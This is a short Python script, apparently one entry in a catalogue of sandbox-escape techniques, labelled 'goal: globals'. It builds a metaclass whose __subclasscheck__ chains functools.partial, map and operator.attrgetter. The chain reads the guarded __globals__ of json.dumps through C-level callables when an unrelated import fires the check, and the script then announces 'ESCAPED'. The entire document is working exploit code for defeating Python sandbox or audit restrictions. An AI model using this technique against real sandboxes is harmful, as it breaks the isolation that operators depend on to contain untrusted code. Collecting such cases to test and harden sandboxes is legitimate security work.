# technique: inside an import a C callable reads a guarded attribute
# goal: globals
# source: own analysis: C callables inside an import
import abc
import collections.abc
import functools
import json
import operator
kept = []


class Meta(abc.ABCMeta):
    __subclasscheck__ = staticmethod(functools.partial(
        dict.fromkeys, map(kept.append, map(operator.attrgetter('__globals__'), [json.dumps]))))


class Evil(collections.abc.MutableSequence, metaclass=Meta):
    pass


import array
if kept[0]['__name__'] == 'json':
    print('ESCAPED globals of json')
